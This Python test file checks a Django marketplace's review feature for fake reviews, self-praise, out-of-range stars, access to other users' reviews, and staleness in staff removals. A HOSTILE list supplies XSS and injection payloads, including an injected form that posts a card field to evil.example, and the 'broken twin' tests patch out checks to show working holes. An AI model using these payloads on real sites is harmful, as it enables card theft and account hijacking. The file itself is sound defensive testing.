"""Somebody would raise their own rating, ruin another's, or put words on a profile that are not theirs to put there."""

import re
from unittest.mock import ANY, patch

import pytest
from django.test import Client

from calls.metering import afterwards
from marketplace.accounts.models import User
from marketplace.pages import reviews as pages
from marketplace.reviews import removing, rows, writing
from marketplace.reviews.models import Removal, Reply, Review
from payouts.office import services as office
from tests import cast
from tests.calls.metering.world import Story
from tests.marketplace.reviews.world import remove, write

pytestmark = pytest.mark.django_db
BOB = "/experts/bob-leroy/"
TYPED = {"stars": "1", "text": "Do not call him.", "seen": "0"}


def talked(caller: User, expert: User, *, seconds: int) -> Story:
    """Paid by the second, and over."""
    story = Story(caller=caller, expert=expert)
    story.go_paid().after(seconds)
    story.back_to_free()
    story.hang_up()
    return story


class UnpaidTests:
    """Eve reviews an expert whom she never paid: in her own name, or on the receipt of alice's call."""

    @pytest.fixture(autouse=True)
    def call(self, alice, bob) -> Story:
        return talked(alice, bob, seconds=120)

    def test_it_is_not_taken(self, signed_in, eve):
        answer = signed_in(eve).post(f"{BOB}review/", TYPED)
        assert answer.url == BOB
        assert not Review.objects.exists()

    def test_nor_does_the_receipt_of_anothers_call_lead_there(self, call, signed_in, eve):
        assert signed_in(eve).get(f"/calls/{call.call.pk}/").status_code == 404

    def test_nor_after_a_free_call_however_long(self, signed_in, eve, bob):
        Story(credit=0, caller=eve).after(3_600).hang_up()
        signed_in(eve).post(f"{BOB}review/", TYPED)
        assert not Review.objects.exists()

    def test_nor_for_a_few_paid_seconds(self, signed_in, eve, bob):
        talked(eve, bob, seconds=59)
        signed_in(eve).post(f"{BOB}review/", TYPED)
        assert not Review.objects.exists()

    def test_nor_of_another_expert_than_the_one_who_was_paid(self, signed_in, alice):
        cleo = cast.expert("Cleo Stahl")
        signed_in(alice).post(f"/experts/{cleo.profile.slug}/review/", TYPED)
        assert not Review.objects.exists()

    def test_where_nobody_asks_what_was_billed_it_stands_on_the_profile(self, signed_in, eve):
        """The broken twin."""
        with patch.object(afterwards, "_billed_ms", return_value=60_000):
            signed_in(eve).post(f"{BOB}review/", TYPED)
        assert "Do not call him." in Client().get(BOB).content.decode()


class OwnTests:
    """Bob praises himself, or somebody writes in the name of others."""

    def test_nobody_praises_themself(self, signed_in, bob):
        assert signed_in(bob).post(f"{BOB}review/", TYPED | {"stars": "5"}).status_code == 404
        assert not Review.objects.exists()

    def test_a_form_that_names_another_writer_is_the_own_one_all_the_same(self, signed_in, alice, eve, bob):
        talked(eve, bob, seconds=120)
        typed = TYPED | {"writer": alice.pk, "writer_id": alice.pk, "expert": eve.pk, "removed_at": "", "version": "9"}
        signed_in(eve).post(f"{BOB}review/", typed)
        kept = Review.objects.get()
        assert (kept.writer, kept.expert, kept.version) == (eve, bob, 1)


class StarsTests:
    """Stars beyond the five, of many kinds, would move the average as no review can."""

    @pytest.mark.parametrize("stars", ["6", "500", "-5", "0", "4.9", "5e1", "NaN", "五", "５", "", "5 5"])
    def test_there_are_five(self, signed_in, alice, bob, stars):
        talked(alice, bob, seconds=120)
        assert signed_in(alice).post(f"{BOB}review/", TYPED | {"stars": stars}).status_code == 422
        assert not Review.objects.exists()


class OthersTests:
    """Eve replies in bob's place, changes what alice wrote, contests what was taken down of hers."""

    @pytest.fixture
    def review(self, alice, bob) -> Review:
        return write(alice, bob, stars=2, text="He was late.")

    def eve_tries(self, client: Client, review: Review) -> list[int]:
        typed = {"text": "I am a fool.", "words": "It was fine.", "seen": "0"}
        return [
            client.post(f"/reviews/{review.pk}/{page}/", typed).status_code
            for page in ("reply", "review/contest", "reply/contest")
        ]

    def test_a_stranger_has_no_such_pages(self, review, signed_in, eve, sam):
        remove(review, sam)
        assert self.eve_tries(signed_in(eve), review) == [404, 404, 404]
        assert not Reply.objects.exists()
        assert Removal.objects.get().contested_at is None

    def test_the_writer_does_not_reply_nor_does_another_expert(self, review, signed_in, alice):
        for one in (alice, cast.expert("Cleo Stahl")):
            assert signed_in(one).post(f"/reviews/{review.pk}/reply/", {"text": "x", "seen": "0"}).status_code == 404
        assert not Reply.objects.exists()

    def test_where_nobody_asks_whose_it_is_she_replies(self, review, signed_in, eve):
        """The broken twin."""
        with (
            patch.object(pages.reviews, "of_expert", lambda _expert_id: Review.objects.all()),
            patch.object(writing, "locked", lambda review_id, **_people: rows.locked(review_id)),
        ):
            assert self.eve_tries(signed_in(eve), review)[0] == 302
        assert Reply.objects.get().text == "I am a fool."

    def test_a_review_is_looked_up_by_its_writer_so_another_makes_one_of_their_own(self, review, signed_in, eve, bob):
        talked(eve, bob, seconds=120)
        signed_in(eve).post(f"{BOB}review/", TYPED | {"seen": "1", "id": review.pk})
        review.refresh_from_db()
        assert (review.text, Review.objects.count()) == ("He was late.", 2)

    def test_an_expert_who_is_staff_takes_nothing_down_that_was_said_of_them(self, review, bob):
        with pytest.raises(office.PartyToIt):
            remove(review, bob)
        review.refresh_from_db()
        assert review.removed_at is None

    def test_where_nobody_asks_whose_affair_it_is_they_do(self, review, bob):
        """The broken twin."""
        with patch.object(removing.office, "check_no_party"):
            remove(review, bob)
        review.refresh_from_db()
        assert review.removed_at


HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</textarea></form><form action=//evil.example><input name=card>",
    "{% load i18n %}{{ request.user.email }}",
    "[click](javascript:alert(1))",
]


class TextTests:
    """What is typed becomes a script, a form or a template wherever it is shown: profile, forms, back office, log."""

    def pages(self, review: Review, signed_in, alice, bob, eve, sam) -> list[str]:
        places = [
            (Client(), BOB),
            (signed_in(alice), f"{BOB}review/"),
            (signed_in(bob), "/me/"),
            (signed_in(bob), f"/reviews/{review.pk}/reply/"),
            (signed_in(eve), f"/reviews/{review.pk}/review/report/"),
            (signed_in(sam), f"/staff/expert-reviews/{review.pk}/"),
        ]
        return [client.get(place).content.decode() for client, place in places]

    @pytest.mark.parametrize("text", HOSTILE)
    def test_everywhere_it_is_text(self, signed_in, alice, bob, eve, sam, text):
        talked(alice, bob, seconds=120)
        review = write(alice, bob, text=text)
        for page in self.pages(review, signed_in, alice, bob, eve, sam):
            assert not re.search(r"<script>alert|<img src=x|<form action=//|href=.?javascript", page)
            assert "alice@example.test" not in page

    def test_where_pages_believe_it_it_is_a_script(self, signed_in, alice, bob):
        """The broken twin."""
        write(alice, bob, text=HOSTILE[0])
        with patch("django.utils.html.escape", lambda text: text):
            page = Client().get(BOB).content.decode()
        assert "<script>alert(1)</script>" in page

    def test_ten_thousand_letters_or_what_cannot_be_shown_are_refused_by_every_form(
        self, signed_in, alice, bob, eve, sam
    ):
        talked(alice, bob, seconds=120)
        review, other = write(alice, bob), write(cast.member("Dan Other"), bob)
        remove(other, sam)
        forms = [
            (alice, f"{BOB}review/", {"stars": "5", "seen": "1"}, "text"),
            (bob, f"/reviews/{review.pk}/reply/", {"seen": "0"}, "text"),
            (eve, f"/reviews/{review.pk}/review/report/", {}, "words"),
            (other.writer, f"/reviews/{other.pk}/review/contest/", {}, "words"),
            (sam, f"/staff/expert-reviews/{review.pk}/review/decide/", {"act": "remove", "seen": "1"}, "reason"),
        ]
        before = list(Review.objects.values())
        for member, page, typed, field in forms:
            for text in ("x" * 10_240, "a\0b", "a\x1b[31mb", "   "):
                assert signed_in(member).post(page, typed | {field: text}).status_code == 422, (page, text[:5])
        assert list(Review.objects.values()) == before
        assert not Reply.objects.exists()

    def test_where_no_rule_measures_it_a_page_is_as_long_as_somebody_likes(self, signed_in, alice, bob):
        """The broken twin."""
        with patch.object(writing, "readable", lambda text: text):
            write(alice, bob, text="x" * 10_240)
        assert len(Client().get(BOB).content) > 10_240


class StalenessTests:
    """Alice shows staff mild words and changes them, or changes hard ones while staff take them down: what is decided is what was
    read."""

    def test_staff_decide_about_what_they_have_read(self, alice, bob, sam):
        review = write(alice, bob, text="He is a crook.")
        write(alice, bob, text="He was late.", seen=1)
        with pytest.raises(writing.ReviewRefused):
            remove(review, sam)
        assert Review.objects.get().removed_at is None

    def test_where_no_form_says_what_was_read_they_take_down_what_they_never_saw(self, alice, bob, sam):
        """The broken twin."""
        review = write(alice, bob, text="He is a crook.")
        write(alice, bob, text="He was late.", seen=1)
        remove(review, sam, seen=ANY)
        assert Review.objects.get().removed_at
